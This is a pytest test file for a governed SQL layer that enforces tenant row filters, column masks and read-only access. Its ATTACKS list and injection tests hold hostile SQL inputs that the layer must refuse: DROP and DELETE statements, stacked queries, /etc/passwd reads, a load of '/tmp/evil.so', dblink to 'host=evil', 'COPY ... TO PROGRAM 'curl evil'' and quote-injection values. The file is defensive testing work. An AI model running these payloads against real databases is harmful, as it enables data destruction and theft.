from __future__ import annotations

import re
import sqlite3
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from pydantic import BaseModel, Field
from sqlalchemy import create_engine, text

from keel.control.governed_sql import (
    CheckedQuery,
    GovernedSQL,
    NamedQuery,
    QueryFailed,
    QueryRefused,
)
from keel.control.sql_grants import SqlCaller, SqlGrants
from keel.errors import InvalidInput, SpecError
from tests.conftest import PG_ADMIN_URL

SCHEMA = [
    "CREATE TABLE projects (id INTEGER PRIMARY KEY, name TEXT, region TEXT, status TEXT,"
    " budget INTEGER, tenant_id TEXT, created_at TEXT)",
    "CREATE TABLE contacts (id INTEGER PRIMARY KEY, project_id INTEGER, name TEXT, email TEXT,"
    " tenant_id TEXT)",
    "CREATE TABLE secrets (id INTEGER PRIMARY KEY, value TEXT)",
    "INSERT INTO projects VALUES"
    " (1, 'Alpha', 'north', 'open', 100, 'acme', '2026-01-05'),"
    " (2, 'Beta', 'south', 'done', 250, 'acme', '2026-02-10'),"
    " (3, 'Gamma', 'north', 'open', 400, 'acme', '2026-02-20'),"
    " (4, 'Delta', 'north', 'open', 999, 'globex', '2026-03-01'),"
    " (5, 'Omega', 'south', 'open', 777, 'globex', '2026-03-02')",
    "INSERT INTO contacts VALUES"
    " (1, 1, 'Ann', 'ann@acme.example', 'acme'),"
    " (2, 2, 'Bo', 'bo@acme.example', 'acme'),"
    " (3, 4, 'Gus', 'gus@globex.example', 'globex')",
    "INSERT INTO secrets VALUES (1, 'TOP-SECRET')",
]

GRANTS = {
    "max_rows": 50,
    "timeout_seconds": 1,
    "tables": {
        "projects": {
            "columns": ["id", "name", "region", "status", "budget", "created_at"],
            "row_filter": "tenant_id = :tenant",
            "role_filters": {"analyst": "TRUE", "regional": "region = :region"},
            "masks": {"budget": {"expr": "NULL", "unless_roles": ["finance"]}},
        },
        "contacts": {
            "columns": ["id", "project_id", "name", "email"],
            "row_filter": "project_id IN (SELECT id FROM projects WHERE tenant_id = :tenant)",
            "masks": {"email": "'***'"},
        },
    },
}

ANALYST = SqlCaller("acme", "alice", frozenset({"analyst", "finance"}))
REGIONAL = SqlCaller("acme", "rob", frozenset({"regional"}), {"region": "north"})
NOBODY = SqlCaller("acme", "nina", frozenset())


def _sqlite_source(path: Path) -> str:
    conn = sqlite3.connect(path)
    for statement in SCHEMA:
        conn.execute(statement)
    conn.commit()
    conn.close()
    return f"sqlite:///{path}"


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def source_url(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """One read-only source database per backend for the whole module (nothing writes to it)."""
    if request.param == "sqlite":
        yield _sqlite_source(tmp_path_factory.mktemp("gsql") / "data.db")
        return
    name = f"keel_gsql_{uuid.uuid4().hex[:12]}"
    admin = create_engine(PG_ADMIN_URL, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    url = PG_ADMIN_URL.rsplit("/", 1)[0] + "/" + name
    engine = create_engine(url)
    with engine.begin() as conn:
        for statement in SCHEMA:
            conn.execute(text(statement))
    engine.dispose()
    try:
        yield url
    finally:
        with admin.connect() as conn:
            conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


@pytest.fixture
def gsql(source_url: str) -> Iterator[GovernedSQL]:
    dialect = "sqlite" if source_url.startswith("sqlite") else "postgres"
    g = GovernedSQL(source_url, SqlGrants.from_mapping(GRANTS, dialect=dialect))
    yield g
    g.close()


def rows(g: GovernedSQL, sql: str, caller: SqlCaller = ANALYST) -> list[tuple[object, ...]]:
    return g.execute(sql, caller).rows


# --- legitimate analytics ---------------------------------------------------------------


def test_plain_select_sees_only_the_tenants_rows(gsql: GovernedSQL) -> None:
    result = gsql.execute("SELECT id, name FROM projects ORDER BY id", ANALYST)
    assert result.columns == ["id", "name"]
    assert result.rows == [(1, "Alpha"), (2, "Beta"), (3, "Gamma")]
    assert (result.row_count, result.truncated) == (3, False)


def test_star_expands_to_granted_columns_only(gsql: GovernedSQL) -> None:
    result = gsql.execute("SELECT * FROM projects WHERE id = 1", ANALYST)
    assert result.columns == ["id", "name", "region", "status", "budget", "created_at"]
    assert "tenant_id" not in result.columns


def test_join_aggregate_group_by_having(gsql: GovernedSQL) -> None:
    sql = (
        "SELECT p.region, COUNT(*) AS n, SUM(p.budget) AS total FROM projects p "
        "JOIN contacts c ON c.project_id = p.id GROUP BY p.region HAVING COUNT(*) >= 1 "
        "ORDER BY p.region"
    )
    assert rows(gsql, sql) == [("north", 1, 100), ("south", 1, 250)]


def test_window_functions_and_ctes(gsql: GovernedSQL) -> None:
    sql = (
        "WITH ranked AS (SELECT name, region, budget, "
        "RANK() OVER (PARTITION BY region ORDER BY budget DESC) AS r FROM projects) "
        "SELECT name, region FROM ranked WHERE r = 1 ORDER BY region"
    )
    assert rows(gsql, sql) == [("Gamma", "north"), ("Beta", "south")]
    running = rows(
        gsql, "SELECT id, SUM(budget) OVER (ORDER BY id) AS running FROM projects ORDER BY id"
    )
    assert running == [(1, 100), (2, 350), (3, 750)]


def test_subqueries_union_and_recursive_cte(gsql: GovernedSQL) -> None:
    sql = (
        "SELECT name FROM projects WHERE budget > (SELECT AVG(budget) FROM projects) "
        "UNION ALL SELECT name FROM contacts WHERE project_id IN (SELECT id FROM projects) "
        "ORDER BY 1"
    )
    assert rows(gsql, sql) == [("Ann",), ("Bo",), ("Gamma",)]
    counted = rows(
        gsql,
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 4) "
        "SELECT COUNT(*) FROM n",
    )
    assert counted == [(4,)]


def test_case_coalesce_string_and_date_functions(gsql: GovernedSQL) -> None:
    sql = (
        "SELECT UPPER(name), CASE WHEN budget > 200 THEN 'big' ELSE 'small' END, "
        "COALESCE(region, '?'), LENGTH(name), SUBSTR(created_at, 1, 7) FROM projects "
        "WHERE name LIKE 'A%' AND created_at BETWEEN '2026-01-01' AND '2026-12-31'"
    )
    assert rows(gsql, sql) == [("ALPHA", "small", "north", 5, "2026-01")]


def test_masks_apply_and_roles_lift_them(gsql: GovernedSQL) -> None:
    assert rows(gsql, "SELECT email FROM contacts ORDER BY id") == [("***",), ("***",)]
    assert rows(gsql, "SELECT budget FROM projects WHERE id = 1") == [(100,)]
    analyst_only = SqlCaller("acme", "al", frozenset({"analyst"}))
    assert rows(gsql, "SELECT budget FROM projects WHERE id = 1", analyst_only) == [(None,)]
    # A filter on a masked column sees the mask, so values cannot be probed through WHERE.
    assert rows(gsql, "SELECT id FROM contacts WHERE email LIKE 'ann%'") == []


def test_role_filters_or_together_and_no_role_sees_nothing(gsql: GovernedSQL) -> None:
    assert rows(gsql, "SELECT name FROM projects ORDER BY id", REGIONAL) == [("Alpha",), ("Gamma",)]
    assert rows(gsql, "SELECT name FROM projects", NOBODY) == []


def test_limit_is_added_capped_and_truncation_reported(source_url: str) -> None:
    dialect = "sqlite" if source_url.startswith("sqlite") else "postgres"
    g = GovernedSQL(source_url, SqlGrants.from_mapping({**GRANTS, "max_rows": 2}, dialect=dialect))
    try:
        capped = g.execute("SELECT id FROM projects ORDER BY id", ANALYST)
        assert (capped.rows, capped.truncated) == ([(1,), (2,)], True)
        big = g.execute("SELECT id FROM projects ORDER BY id LIMIT 1000", ANALYST)
        assert big.truncated and big.row_count == 2
        small = g.execute("SELECT id FROM projects ORDER BY id LIMIT 1 OFFSET 1", ANALYST)
        assert (small.rows, small.truncated) == ([(2,)], False)
    finally:
        g.close()


# --- attacks -----------------------------------------------------------------------------

ATTACKS: list[tuple[str, str]] = [
    ("DELETE FROM projects", "only SELECT"),
    ("INSERT INTO projects (id) VALUES (9)", "only SELECT"),
    ("UPDATE projects SET budget = 0", "only SELECT"),
    ("DROP TABLE projects", "only SELECT"),
    ("CREATE TABLE x AS SELECT * FROM projects", "only SELECT"),
    ("ALTER TABLE projects ADD COLUMN x TEXT", "only SELECT"),
    ("SELECT 1; DROP TABLE projects", "one statement"),
    ("SELECT 1; SELECT 2", "one statement"),
    ("SELECT 1; -- harmless?", "comments"),
    ("SELECT 1 /* ; DROP TABLE projects */", "comments"),
    ("SELECT name FROM projects -- WHERE tenant_id = 'acme'", "comments"),
    ("SELECT * FROM secrets", "secrets is not granted"),
    ("SELECT p.name, s.value FROM projects p JOIN secrets s ON 1 = 1", "secrets is not granted"),
    ("SELECT name FROM projects UNION SELECT value FROM secrets", "secrets is not granted"),
    ("SELECT * FROM (SELECT * FROM secrets) t", "secrets is not granted"),
    ("SELECT tenant_id FROM projects", "tenant_id"),
    ("SELECT p.tenant_id FROM projects p", "tenant_id"),
    ("SELECT name FROM projects WHERE tenant_id = 'globex'", "tenant_id"),
    ("SELECT COUNT(*) FROM projects GROUP BY tenant_id", "tenant_id"),
    ("WITH projects AS (SELECT * FROM contacts) SELECT * FROM projects", "shadows"),
    ("WITH a AS (SELECT * FROM secrets) SELECT * FROM a", "secrets is not granted"),
    (
        "WITH a AS (SELECT 1 AS x), b AS (SELECT * FROM c), c AS (SELECT 2) SELECT * FROM b",
        "c is not granted",
    ),
    ("SELECT * FROM sqlite_master", "system catalog"),
    ("SELECT * FROM sqlite_schema", "system catalog"),
    ("SELECT * FROM pg_catalog.pg_tables", "system catalog"),
    ("SELECT * FROM information_schema.tables", "system catalog"),
    ("SELECT * FROM pg_user", "system catalog"),
    ("SELECT * FROM main.projects", "qualified table"),
    ("SELECT load_extension('/tmp/evil.so')", "load_extension"),
    ("SELECT readfile('/etc/passwd')", "readfile"),
    ("SELECT writefile('/tmp/x', 'y')", "writefile"),
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT pg_ls_dir('.')", "pg_ls_dir"),
    ("SELECT lo_import('/etc/passwd')", "lo_import"),
    ("SELECT dblink('host=evil', 'SELECT 1')", "dblink"),
    ("SELECT pg_sleep(60)", "pg_sleep"),
    ("SELECT current_setting('data_directory')", "current_setting"),
    ("SELECT set_config('role', 'postgres', false)", "set_config"),
    ("SELECT zeroblob(1000000000)", "zeroblob"),
    ("SELECT * FROM pragma_table_info('projects')", "pragma_table_info"),
    ("SELECT * FROM generate_series(1, 1000000000)", "generate_series"),
    ("SELECT * FROM json_each('[1]')", "json_each"),
    ("PRAGMA table_info(projects)", "only SELECT"),
    ("ATTACH DATABASE '/tmp/x.db' AS x", "only SELECT|cannot parse"),
    ("VACUUM", "only SELECT"),
    ("COPY projects TO PROGRAM 'curl evil'", "only SELECT"),
    ("SELECT * FROM projects WHERE id = :id", "parameters"),
    ("SELECT * FROM projects FOR UPDATE", "LOCK"),
    ("SELECT * INTO stolen FROM projects", "INTO"),
    ("SELECT * FROM projects LIMIT (SELECT 10)", "LIMIT"),
    ("SELECT rowid FROM projects", "rowid"),
]


@pytest.mark.parametrize(("sql", "reason"), ATTACKS, ids=[a[0][:40] for a in ATTACKS])
def test_attack_is_refused_with_a_reason(gsql: GovernedSQL, sql: str, reason: str) -> None:
    with pytest.raises(QueryRefused) as info:
        gsql.execute(sql, ANALYST)
    assert re.search(reason, info.value.reason, re.IGNORECASE), info.value.reason
    assert info.value.field == "sql"


def test_filter_cannot_be_bypassed_by_aliases_self_joins_or_nesting(gsql: GovernedSQL) -> None:
    queries = [
        "SELECT a.name FROM projects a",
        "SELECT b.name FROM projects a JOIN projects b ON b.id <> a.id",
        "SELECT name FROM (SELECT * FROM (SELECT * FROM projects) x) y",
        "WITH q AS (SELECT * FROM projects) SELECT name FROM q",
        "SELECT name FROM projects WHERE 1 = 1 OR 1 = 1",
        "SELECT name FROM projects UNION SELECT name FROM projects p2",
        "SELECT (SELECT MAX(name) FROM projects) FROM projects",
        "SELECT name FROM projects WHERE EXISTS (SELECT 1 FROM projects p WHERE p.id = 4)",
        'SELECT name FROM "PROJECTS"',
    ]
    for sql in queries:
        try:
            names = {r[0] for r in rows(gsql, sql)}
        except QueryRefused:
            continue  # refusing is fine ("PROJECTS" is another table on PostgreSQL)
        assert names <= {"Alpha", "Beta", "Gamma"}, (sql, names)
        assert not names & {"Delta", "Omega"}


def test_other_tenant_sees_its_own_rows(gsql: GovernedSQL) -> None:
    globex = SqlCaller("globex", "g", frozenset({"analyst"}))
    assert rows(gsql, "SELECT name FROM projects ORDER BY id", globex) == [("Delta",), ("Omega",)]


def test_tenant_value_with_quotes_is_a_literal_not_sql(gsql: GovernedSQL) -> None:
    evil = SqlCaller("x' OR '1'='1", "m", frozenset({"analyst"}))
    assert rows(gsql, "SELECT name FROM projects", evil) == []


def test_timeout_interrupts_a_runaway_query(gsql: GovernedSQL) -> None:
    sql = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT COUNT(*) FROM n"
    with pytest.raises(QueryFailed) as info:
        gsql.execute(sql, ANALYST)
    assert info.value.timed_out


def test_connection_itself_is_read_only(gsql: GovernedSQL) -> None:
    """Even a statement that slipped past the checks cannot write."""
    forged = CheckedQuery("DELETE FROM projects", ("projects",), 10, 10)
    with pytest.raises(QueryFailed):
        gsql._run(forged)
    assert len(rows(gsql, "SELECT id FROM projects")) == 3


def test_sqlite_authorizer_blocks_ungranted_reads(tmp_path: Path) -> None:
    url = _sqlite_source(tmp_path / "d.db")
    g = GovernedSQL(url, SqlGrants.from_mapping(GRANTS, dialect="sqlite"))
    with pytest.raises(QueryFailed, match=r"prohibited|not authorized"):
        g._run(CheckedQuery("SELECT value FROM secrets", (), 10, 10))


# --- named queries ------------------------------------------------------------------------


class ByRegion(BaseModel):
    region: str = Field(max_length=20)
    min_budget: int = 0


BY_REGION = NamedQuery(
    "projects_by_region",
    "SELECT name, budget FROM projects WHERE region = :region AND budget >= :min_budget ORDER BY id",
    ByRegion,
    description="Projects in a region above a budget",
)


def test_named_query_runs_through_the_same_grants(gsql: GovernedSQL) -> None:
    result = gsql.run(BY_REGION, {"region": "north", "min_budget": 200}, ANALYST)
    assert result.records() == [{"name": "Gamma", "budget": 400}]
    quoted = gsql.run(BY_REGION, ByRegion(region="n' OR '1'='1"), ANALYST)
    assert quoted.rows == []


def test_named_query_validates_parameters() -> None:
    with pytest.raises(InvalidInput) as info:
        BY_REGION.render({"region": "x" * 30}, dialect="sqlite")
    assert info.value.field == "region"
    with pytest.raises(InvalidInput, match="not a field"):
        NamedQuery("bad", "SELECT * FROM projects WHERE id = :nope", ByRegion)


def test_named_query_over_ungranted_table_is_refused(gsql: GovernedSQL) -> None:
    class Empty(BaseModel):
        pass

    with pytest.raises(QueryRefused, match="secrets"):
        gsql.run(NamedQuery("leak", "SELECT * FROM secrets", Empty), {}, ANALYST)


# --- grants --------------------------------------------------------------------------------


def test_grant_errors_name_the_field() -> None:
    bad = {
        "max_rows": 0,
        "tables": {
            "Projects": {"columns": ["id"]},
            "sqlite_master": {"columns": ["name"]},
            "contacts": {"columns": ["id"], "masks": {"email": "'x'"}},
            "t": {"columns": ["id"], "row_filter": "tenant_id = "},
        },
    }
    with pytest.raises(SpecError) as info:
        SqlGrants.from_mapping(bad, dialect="sqlite")
    text = str(info.value)
    for field in (
        "max_rows",
        "tables.Projects",
        "tables.sqlite_master",
        "tables.contacts.masks.email",
        "tables.t.row_filter",
    ):
        assert f":{field}:" in text, (field, text)


def test_missing_caller_attribute_is_invalid_input(gsql: GovernedSQL) -> None:
    no_region = SqlCaller("acme", "r", frozenset({"regional"}))
    with pytest.raises(InvalidInput, match=":region"):
        gsql.execute("SELECT name FROM projects", no_region)


def test_memory_database_is_refused() -> None:
    with pytest.raises(InvalidInput):
        GovernedSQL("sqlite:///:memory:", SqlGrants.from_mapping(GRANTS, dialect="sqlite"))


def test_absurdly_nested_query_is_refused_not_crashing(gsql: GovernedSQL) -> None:
    sql = "SELECT " + "(" * 3000 + "1" + ")" * 3000
    with pytest.raises(QueryRefused):
        gsql.execute(sql, ANALYST)
    with pytest.raises(QueryRefused, match="longer than"):
        gsql.execute("SELECT 1" + " " * 30_000, ANALYST)


# --- the verdict cache ------------------------------------------------------------------


def test_a_repeated_query_reuses_its_verdict_per_caller(gsql: GovernedSQL) -> None:
    sql = "SELECT id, name FROM projects ORDER BY id"
    first = gsql.check(sql, ANALYST)
    assert gsql.check(sql, ANALYST) is first  # remembered: no second parse
    other_tenant = SqlCaller("globex", "gus", ANALYST.roles)
    theirs = gsql.check(sql, other_tenant)
    assert theirs is not first and "'globex'" in theirs.sql and "'acme'" not in theirs.sql
    regional = gsql.check("SELECT id FROM projects", REGIONAL)
    assert "'north'" in regional.sql
    moved = SqlCaller("acme", "rob", frozenset({"regional"}), {"region": "south"})
    assert "'south'" in gsql.check("SELECT id FROM projects", moved).sql


def test_a_refusal_is_never_remembered_as_a_verdict(gsql: GovernedSQL) -> None:
    for _ in range(2):
        with pytest.raises(QueryRefused):
            gsql.check("SELECT id FROM secrets", ANALYST)
